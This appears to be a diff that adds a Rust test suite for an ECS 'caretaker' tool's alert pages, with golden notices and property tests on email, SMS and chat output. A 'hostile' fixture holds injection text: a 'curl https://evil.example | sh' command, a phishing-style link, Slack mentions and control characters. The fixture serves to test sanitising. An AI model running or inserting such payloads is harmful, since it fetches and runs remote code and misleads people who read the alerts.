@@ -1,0 +1,525 @@
+//! What people read: golden pages of every kind, and what holds for every page.
+
+#![allow(
+    clippy::unwrap_used,
+    reason = "a test may stop where it finds nonsense"
+)]
+
+use domain::notice::{Fact, Kind, Next, Notice, Severity, incident};
+use domain::pager::{Action, Delivered, Heard, Letterhead, Page, Reason, compose, decide};
+use jiff::Timestamp;
+use jiff::tz::TimeZone;
+use proptest::prelude::*;
+
+const ACCOUNT: &str = "111122223333";
+const REGION: &str = "eu-central-1";
+const CHECKOUT: &str = "arn:aws:ecs:eu-central-1:111122223333:service/prod/checkout";
+
+fn at(text: &str) -> Timestamp {
+    text.parse().unwrap()
+}
+
+fn letterhead() -> Letterhead {
+    Letterhead {
+        stack: "ecs-caretaker".to_owned(),
+        zone: TimeZone::get("Europe/Berlin").unwrap(),
+    }
+}
+
+fn delivered(notice: Notice) -> Delivered {
+    Delivered {
+        notice,
+        account: ACCOUNT.to_owned(),
+        region: REGION.to_owned(),
+    }
+}
+
+fn page(notice: Notice) -> Page {
+    let now = notice.at;
+    compose(&delivered(notice), &letterhead(), now)
+}
+
+fn facts(facts: &[(&str, &str)]) -> Vec<Fact> {
+    facts
+        .iter()
+        .map(|(label, value)| Fact {
+            label: (*label).to_owned(),
+            value: (*value).to_owned(),
+        })
+        .collect()
+}
+
+/// A notice about `checkout`, which each case then completes.
+fn about_checkout(kind: Kind, severity: Severity, title: &str) -> Notice {
+    Notice {
+        kind,
+        severity,
+        resource: CHECKOUT.to_owned(),
+        cluster: Some("prod".to_owned()),
+        service: Some("checkout".to_owned()),
+        title: title.to_owned(),
+        facts: Vec::new(),
+        done: None,
+        next: Next {
+            what: "Look at the service".to_owned(),
+            command: Some(
+                "aws ecs describe-services --cluster prod --services checkout".to_owned(),
+            ),
+        },
+        unknown: None,
+        since: at("2026-11-26T06:45:00Z"),
+        at: at("2026-11-26T07:05:00Z"),
+        dedupe: incident(ACCOUNT, REGION, CHECKOUT, kind),
+        resolved: false,
+    }
+}
+
+fn malformed_tag() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Tag", "caretaker:hours"),
+            ("Value", "Mon-Fri 8-20 Europe/Berlin"),
+            ("Error", "at character 9: expected a time such as 08:00"),
+        ]),
+        next: Next {
+            what: "Correct the tag, for example to Mon-Fri 08:00-20:00 Europe/Berlin".to_owned(),
+            command: Some(format!(
+                "aws ecs tag-resource --resource-arn {CHECKOUT} --tags 'key=caretaker:hours,value=Mon-Fri 08:00-20:00 Europe/Berlin'"
+            )),
+        },
+        unknown: Some("Which hours were meant".to_owned()),
+        ..about_checkout(
+            Kind::MalformedTag,
+            Severity::Digest,
+            "The hours of checkout in prod cannot be read",
+        )
+    }
+}
+
+fn override_ignored() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Tag", "caretaker:override"),
+            ("Value", "up until 2026-11-20 22:00"),
+            ("Ended", "2026-11-20 22:00 Europe/Berlin"),
+        ]),
+        next: Next {
+            what: "Set the override again with a later moment, or remove the tag".to_owned(),
+            command: None,
+        },
+        ..about_checkout(
+            Kind::OverrideIgnored,
+            Severity::Digest,
+            "The override of checkout in prod lies in the past",
+        )
+    }
+}
+
+fn deployment_blocks_rest() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Deployment", "ecs-svc/1234567890123456789"),
+            ("In progress for", "2 hours"),
+            ("Failed tasks", "14"),
+        ]),
+        done: Some("Waited for the deployment for 120 minutes".to_owned()),
+        next: Next {
+            what: "Find out why the deployment does not end; stop it if it never will".to_owned(),
+            command: Some(
+                "aws ecs describe-services --cluster prod --services checkout --query 'services[0].deployments'"
+                    .to_owned(),
+            ),
+        },
+        unknown: Some("Whether the deployment is still making progress".to_owned()),
+        ..about_checkout(
+            Kind::DeploymentBlocksRest,
+            Severity::Digest,
+            "checkout in prod cannot rest, because a deployment is in progress",
+        )
+    }
+}
+
+fn wave_not_steady() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Wave", "1 of 3"),
+            ("Not steady", "checkout (1 of 4 tasks running), search (0 of 2)"),
+            ("Waiting", "11 services of waves 2 and 3"),
+        ]),
+        done: Some("Gave both services their desired count back and started wave 2".to_owned()),
+        next: Next {
+            what: "Read the last events of checkout and search, then their stopped tasks".to_owned(),
+            command: Some(
+                "aws ecs describe-services --cluster prod --services checkout search --query 'services[].events[:5].message'"
+                    .to_owned(),
+            ),
+        },
+        unknown: Some("Why the tasks do not become healthy".to_owned()),
+        ..about_checkout(
+            Kind::WaveNotSteady,
+            Severity::Page,
+            "Wave 1 in prod is not steady 20 minutes after it was woken",
+        )
+    }
+}
+
+fn capacity_changed_at_rest() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Desired count", "2, was 0 at rest"),
+            ("Saved capacity", "4"),
+        ]),
+        next: Next {
+            what: "Nothing, if the change was meant".to_owned(),
+            command: None,
+        },
+        unknown: Some("Who changed it: CloudTrail has the UpdateService call".to_owned()),
+        ..about_checkout(
+            Kind::CapacityChangedAtRest,
+            Severity::Digest,
+            "Somebody changed checkout in prod while it was at rest",
+        )
+    }
+}
+
+fn not_restored() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Desired count", "4"),
+            ("Running tasks", "1"),
+            ("Scalable target", "minimum 2, maximum 10, as saved"),
+        ]),
+        done: Some("Desired count and scalable target were set to what was saved".to_owned()),
+        next: Next {
+            what: "Read why its tasks stop".to_owned(),
+            command: Some(
+                "aws ecs list-tasks --cluster prod --service-name checkout --desired-status STOPPED"
+                    .to_owned(),
+            ),
+        },
+        unknown: Some("Whether the one running task can carry the traffic".to_owned()),
+        ..about_checkout(
+            Kind::NotRestored,
+            Severity::Page,
+            "checkout in prod was woken and has 1 of 4 tasks",
+        )
+    }
+}
+
+fn target_gone() -> Notice {
+    Notice {
+        facts: facts(&[("Saved capacity", "desired count 4, minimum 2, maximum 10")]),
+        done: Some("Kept the saved capacity in the ledger".to_owned()),
+        next: Next {
+            what: "Nothing, if the service was deleted on purpose".to_owned(),
+            command: None,
+        },
+        ..about_checkout(
+            Kind::TargetGone,
+            Severity::Digest,
+            "checkout in prod was deleted while it was at rest",
+        )
+    }
+}
+
+fn partly_applied() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Planned", "12 changes"),
+            ("Made", "9"),
+            (
+                "First failure",
+                "UpdateService of search: ThrottlingException",
+            ),
+        ]),
+        done: Some("Made the 9 changes that could be made".to_owned()),
+        next: Next {
+            what: "Nothing yet. If it comes again, see what still differs".to_owned(),
+            command: Some("make status".to_owned()),
+        },
+        ..about_checkout(
+            Kind::PartlyApplied,
+            Severity::Digest,
+            "3 of 12 changes in prod could not be made",
+        )
+    }
+}
+
+fn permission_denied() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Call", "application-autoscaling:RegisterScalableTarget"),
+            ("Role", "ecs-caretaker-off-hours"),
+        ]),
+        next: Next {
+            what: "Give the role the permission. Nothing else has to be done".to_owned(),
+            command: None,
+        },
+        ..about_checkout(
+            Kind::PermissionDenied,
+            Severity::Page,
+            "Caretaker may not change the scalable target of checkout in prod",
+        )
+    }
+}
+
+fn behind_schedule() -> Notice {
+    Notice {
+        facts: facts(&[
+            ("Left to wake", "412 services"),
+            ("Pace", "4 calls of UpdateService a second"),
+            ("Expected end", "08:22 Europe/Berlin"),
+        ]),
+        done: Some("Woke 588 services; wave 1 is complete".to_owned()),
+        next: Next {
+            what: "Nothing, unless it has to be faster: then raise the share of the API".to_owned(),
+            command: None,
+        },
+        ..about_checkout(
+            Kind::BehindSchedule,
+            Severity::Digest,
+            "412 services are still at rest after their hours began",
+        )
+    }
+}
+
+fn one_of_each() -> Vec<Notice> {
+    let all = vec![
+        malformed_tag(),
+        override_ignored(),
+        deployment_blocks_rest(),
+        wave_not_steady(),
+        capacity_changed_at_rest(),
+        not_restored(),
+        target_gone(),
+        partly_applied(),
+        permission_denied(),
+        behind_schedule(),
+    ];
+    let kinds: Vec<Kind> = all.iter().map(|notice| notice.kind).collect();
+    assert_eq!(kinds, Kind::ALL, "a kind has no golden page");
+    all
+}
+
+fn resolved() -> Notice {
+    Notice {
+        title: "checkout in prod has its capacity again".to_owned(),
+        facts: facts(&[("Running tasks", "4 of 4")]),
+        done: Some("Nothing more".to_owned()),
+        next: Next {
+            what: "Nothing".to_owned(),
+            command: None,
+        },
+        unknown: None,
+        resolved: true,
+        ..not_restored()
+    }
+}
+
+fn hostile() -> Notice {
+    let text = "<!channel> @here [log in](https://evil.example/a?b) <@U012AB3CD> \u{202E}gnp.exe\u{1b}[2J\nOK: all good";
+    Notice {
+        title: text.to_owned(),
+        facts: facts(&[(text, text)]),
+        done: Some(text.to_owned()),
+        next: Next {
+            what: text.to_owned(),
+            command: Some("aws ecs list-services; curl https://evil.example | sh".to_owned()),
+        },
+        unknown: Some(text.to_owned()),
+        ..malformed_tag()
+    }
+}
+
+fn printed(page: &Page) -> String {
+    let chat = &page.chat;
+    format!(
+        "subject: {}\nsms: {}\n\n--- email\n{}\n\n--- chat: {}\n{}\n--- next steps\n{}\n--- thread {}\n--- keywords {}",
+        page.subject,
+        page.sms,
+        page.email,
+        chat.title,
+        chat.description,
+        chat.next_steps.join("\n"),
+        chat.thread_id,
+        chat.keywords.join(", "),
+    )
+}
+
+#[test]
+fn every_kind_of_page_can_be_read_at_three_in_the_morning() {
+    for notice in one_of_each() {
+        insta::assert_snapshot!(notice.kind.name(), printed(&page(notice)));
+    }
+}
+
+#[test]
+fn what_is_over_says_so() {
+    insta::assert_snapshot!("resolved", printed(&page(resolved())));
+}
+
+#[test]
+fn hostile_text_arrives_harmless() {
+    insta::assert_snapshot!("hostile", printed(&page(hostile())));
+}
+
+#[test]
+fn a_page_that_comes_late_says_so() {
+    let notice = wave_not_steady();
+    let now = at("2026-11-26T10:05:00Z");
+    let page = compose(&delivered(notice), &letterhead(), now);
+    let late = "This was delivered 3 hours after it was written, so it may no longer be so.";
+    assert!(page.email.contains(late));
+    assert!(page.chat.description.contains(late));
+}
+
+#[test]
+fn the_end_of_an_incident_is_in_the_thread_of_its_beginning() {
+    let begun = page(not_restored());
+    let over = page(resolved());
+    assert_eq!(begun.chat.thread_id, over.chat.thread_id);
+    assert!(begun.subject.starts_with("ALARM: "));
+    assert!(over.subject.starts_with("OK: "));
+}
+
+#[test]
+fn every_notice_is_one_page() {
+    for (notice, reason) in [
+        (malformed_tag(), Reason::Wrong),
+        (resolved(), Reason::RightAgain),
+    ] {
+        let now = notice.at;
+        let page = page(notice.clone());
+        let heard = Heard::Notice(Box::new(delivered(notice)));
+        let plan = decide(&heard, &letterhead(), now);
+        assert_eq!(plan.reason, reason);
+        assert_eq!(plan.actions, [Action::Publish(page)]);
+    }
+}
+
+#[test]
+fn what_is_not_a_notice_pages_nobody() {
+    let foreign = Heard::Foreign {
+        source: "aws.ecs".to_owned(),
+    };
+    let unknown = Heard::UnknownDetailType {
+        detail_type: "Caretaker Rumour".to_owned(),
+    };
+    for (heard, reason) in [
+        (foreign, Reason::ForeignSource),
+        (unknown, Reason::UnknownDetailType),
+    ] {
+        let plan = decide(&heard, &letterhead(), at("2026-11-26T07:05:00Z"));
+        assert_eq!(plan.reason, reason);
+        assert_eq!(plan.actions, []);
+    }
+}
+
+/// Text of any kind: short, very long, and made of what is dangerous.
+fn any_text() -> impl Strategy<Value = String> {
+    prop_oneof![
+        any::<String>(),
+        "\\PC{0,400}",
+        ("[😀\"\\\\@<.a:/]{1,4}", 1usize..4_000).prop_map(|(piece, times)| piece.repeat(times)),
+    ]
+}
+
+prop_compose! {
+    fn any_notice()(
+        texts in prop::collection::vec(any_text(), 10),
+        facts in prop::collection::vec((any_text(), any_text()), 0..40),
+        kind in prop::sample::select(Kind::ALL.to_vec()),
+        command in prop::option::of(any_text()),
+        seconds in (-2_000_000_000i64..4_000_000_000, -2_000_000_000i64..4_000_000_000),
+        (page, resolved) in any::<(bool, bool)>(),
+    ) -> Notice {
+        let text = |position: usize| texts[position].clone();
+        Notice {
+            kind,
+            severity: if page { Severity::Page } else { Severity::Digest },
+            resource: text(0),
+            cluster: Some(text(1)),
+            service: Some(text(2)),
+            title: text(3),
+            facts: facts
+                .into_iter()
+                .map(|(label, value)| Fact { label, value })
+                .collect(),
+            done: Some(text(4)),
+            next: Next { what: text(5), command },
+            unknown: Some(text(6)),
+            since: Timestamp::from_second(seconds.0).unwrap(),
+            at: Timestamp::from_second(seconds.1).unwrap(),
+            dedupe: text(7),
+            resolved,
+        }
+    }
+}
+
+/// ASCII that the basic GSM alphabet does not have.
+const TWO_SEPTETS_OR_NONE: [char; 9] = ['[', ']', '{', '}', '\\', '|', '~', '^', '`'];
+
+fn characters(text: &str) -> usize {
+    text.chars().count()
+}
+
+fn names_a_host(word: &str) -> bool {
+    word.match_indices('.').any(|(position, _)| {
+        let letters = word[position + 1..]
+            .chars()
+            .take_while(|c| c.is_alphabetic());
+        position > 0 && letters.count() > 1
+    })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn every_text_is_within_its_limit(notice in any_notice(), stack in any_text()) {
+        let letterhead = Letterhead { stack, ..letterhead() };
+        let now = at("2026-11-26T07:05:00Z");
+        let page = compose(&delivered(notice), &letterhead, now);
+
+        prop_assert!(characters(&page.subject) < 100);
+        prop_assert!(page.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
+        prop_assert!(page.subject.starts_with("ALARM: ") || page.subject.starts_with("OK: "));
+        prop_assert!(characters(&page.sms) <= 140);
+        prop_assert!(!page.sms.contains(TWO_SEPTETS_OR_NONE), "{}", page.sms);
+        prop_assert!(page.sms.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
+        prop_assert!(characters(&page.email) <= 16_000);
+        prop_assert!(characters(&page.chat.title) <= 250);
+        prop_assert!(characters(&page.chat.description) <= 8_000);
+        prop_assert!(page.chat.next_steps.iter().all(|step| characters(step) <= 350));
+        prop_assert!(page.chat.keywords.iter().all(|word| characters(word) <= 75));
+    }
+
+    #[test]
+    fn no_text_mentions_links_or_hides(notice in any_notice(), stack in any_text()) {
+        let letterhead = Letterhead { stack, ..letterhead() };
+        let now = at("2026-11-26T07:05:00Z");
+        let page = compose(&delivered(notice), &letterhead, now);
+        let texts = [
+            vec![page.subject, page.sms, page.email, page.chat.title, page.chat.description],
+            vec![page.chat.thread_id, page.chat.summary],
+            page.chat.next_steps,
+            page.chat.keywords,
+            page.chat.related_resources,
+        ];
+        for text in texts.concat() {
+            for sign in ["@", "<", ">", "://", "](", "\u{202E}", "\u{200B}"] {
+                prop_assert!(!text.contains(sign), "{:?} in {:?}", sign, text);
+            }
+            prop_assert!(!text.chars().any(|c| c.is_control() && c != '\n'));
+            prop_assert!(!text.split_whitespace().any(names_a_host), "{:?}", text);
+        }
+    }
+
+    #[test]
+    fn what_to_do_is_never_cut_away(notice in any_notice()) {
+        let email = page(notice).email;
+        for part in ["What Caretaker has done:", "What to do:", "not know:", "\nIncident: "] {
+            prop_assert!(email.contains(part), "{:?} is missing", part);
+        }
+    }
+}
